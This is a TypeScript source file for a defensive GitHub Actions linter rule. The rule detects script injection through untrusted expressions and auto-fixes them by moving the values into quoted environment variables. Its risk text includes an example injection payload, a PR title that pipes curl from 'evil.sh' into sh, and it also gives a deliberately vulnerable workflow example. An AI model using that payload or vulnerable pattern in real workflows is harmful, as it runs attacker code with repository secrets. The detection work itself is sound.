import { defineRule, type Fix, type TextEdit } from '../../engine/types';
import type { ExpressionOccurrence } from '../../expressions/parse';
import type { Step } from '../../model/workflow';
import { isUntrustedContext } from '../../analysis/contexts';
import { addStepEnv, envNames, uniqueName } from '../../fixes/env';
import type { AnalysisContext } from '../../engine/context';

export default defineRule({
  meta: {
    id: 'template-injection',
    title: 'Expression injection into a script',
    description: 'An attacker-controllable expression (a PR title, a branch name, a comment body...) is expanded inside a run: script.',
    severity: 'high',
    confidence: 'high',
    category: 'untrusted-input',
    aliases: ['template-injection', 'expression-injection', 'injection'],
    appliesTo: ['workflow', 'action'],
    fixable: true,
    docs: {
      risk:
        'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets.',
      remediation:
        'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"`. The quick-fix does exactly that.',
      vulnerableExample: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
      safeExample: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$PR_TITLE"\n',
      references: ['https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections'],
    },
  },

  step(step, job, wf, ctx) {
    checkRun(step, ctx, [wf.env, job.env]);
  },

  actionStep(step, _action, ctx) {
    checkRun(step, ctx, []);
  },
});

function checkRun(step: Step, ctx: AnalysisContext, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): void {
  const run = step.run;
  if (!run) return;
  for (const expr of run.expressions) {
    const bad = expr.contexts.find((c) => isUntrustedContext(c.segments));
    if (!bad) continue;
    const fix = moveToEnvFix(step, ctx.text, expr, bad.segments, outerEnv);
    ctx.report({
      message: `${bad.path} can be set by an outsider and is expanded into the script: move it to env: and use "$VAR" in the script.`,
      span: expr.span,
      fixes: fix ? [fix] : [],
      properties: { context: bad.path },
    });
  }
}

function moveToEnvFix(step: Step, text: string, expr: ExpressionOccurrence, segments: string[], outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): Fix | undefined {
  const run = step.run!;
  const exprText = text.slice(expr.span.start, expr.span.end);
  const existing = step.env?.entries.find((e) => e.value?.text.trim() === exprText.trim());
  const taken = envNames(step.env, ...outerEnv);
  const name = existing?.name ?? uniqueName(segments.filter((s) => s !== '*').slice(-2).join('_'), taken);
  const shell = (step.shell ?? 'bash').toLowerCase();
  const edits: TextEdit[] = [];
  for (const occ of run.expressions) {
    if (text.slice(occ.span.start, occ.span.end) !== exprText) continue;
    const quote = shellQuoteAt(text, occ.span.start);
    const posix = quote === '"' ? `\${${name}}` : quote === "'" ? `'"\${${name}}"'` : `"\${${name}}"`;
    const ref = shell.startsWith('pwsh') || shell.startsWith('powershell') ? `$env:${name}` : shell === 'cmd' ? `%${name}%` : posix;
    edits.push({ span: occ.span, newText: ref });
  }
  if (!existing) {
    const envEdit = addStepEnv(text, step, [{ name, value: exprText }]);
    if (!envEdit) return undefined;
    edits.push(envEdit);
  }
  return { title: `Move ${segments.join('.')} to env: ${name}`, safety: 'safe', isPreferred: true, edits };
}

/** The POSIX-shell quote open at `offset` on its line: '"', "'" or '' (a line-local view, which is what fixes need). */
function shellQuoteAt(text: string, offset: number): string {
  const lineStart = text.lastIndexOf('\n', offset - 1) + 1;
  let quote = '';
  for (let i = lineStart; i < offset; i++) {
    const c = text[i];
    if (quote === "'") {
      if (c === "'") quote = '';
    } else if (c === '\\') {
      i++;
    } else if (c === '"') {
      quote = quote === '"' ? '' : '"';
    } else if (c === "'" && quote === '') {
      quote = "'";
    }
  }
  return quote;
}
